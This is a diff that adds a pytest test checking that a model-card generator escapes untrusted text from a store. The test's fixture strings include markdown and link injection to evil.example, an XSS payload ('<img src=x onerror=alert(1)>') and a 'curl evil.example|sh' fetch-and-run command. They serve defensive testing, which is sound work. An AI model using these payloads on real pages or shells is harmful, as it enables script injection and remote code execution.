@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import re
+import shlex
 from pathlib import Path
 
 import pytest
@@ -78,3 +80,26 @@ def test_text_from_the_store_breaks_neither_the_yaml_nor_the_numbers() -> None:
     text = card(Told(state, checkpoint(5, 1), "newest checkpoint", pinned, True, metrics, ["task=x"]))
     read = ModelCard(text)
     assert [result.metric_value for result in read.data.eval_results or []] == [0.5]
+
+
+def test_text_from_the_store_is_shown_as_text_and_is_no_markup_and_no_shell_command() -> None:
+    """A member may write any genesis and any metric's name; the card is published under somebody else's."""
+    _, client = begun()
+    client.commit(5)
+    evil = "x` |\n\n# Win [here](http://evil.example)\n```\n<img src=x onerror=alert(1)>; curl evil.example|sh"
+    pinned = {"task": evil, "batch_size": 4, "data": {evil: evil, "train": "sha256:00"}, "arch": {"x": evil}}
+    metrics = {"valid/a|[b](http://evil.example)<img src=x>`": 0.5, "valid/n": 8.0}
+    told = Told(client.ledger.read().state, checkpoint(5, 1), "x", pinned, True, metrics, [f"task={evil}"])
+    body = ModelCard(card(told)).text
+    lines = body.splitlines()
+    assert [line for line in lines if line.startswith("#")] == [
+        "# run_a", "## What was measured", "## Use", "## Limits", "## Settings"
+    ]  # fmt: skip
+    assert [line for line in lines if line.startswith("```")] == ["```text", "```", "```json", "```"]
+    prose = re.sub(r"^```.*?^```$", "", body, flags=re.DOTALL | re.MULTILINE)
+    seen = re.sub(r"`[^`\n]*`", "", prose)
+    assert "http" not in seen and "<" not in seen and "evil" not in seen
+    for row in (line for line in prose.splitlines() if line.startswith("|")):
+        assert len(re.findall(r"(?<!\\)\|", row)) == 3, "no cell is added"
+    (typed,) = (line for line in lines if line.startswith("python rotate_accounts.py"))
+    assert shlex.split(typed)[-1].startswith("task=x` | # Win"), "one word for a shell"
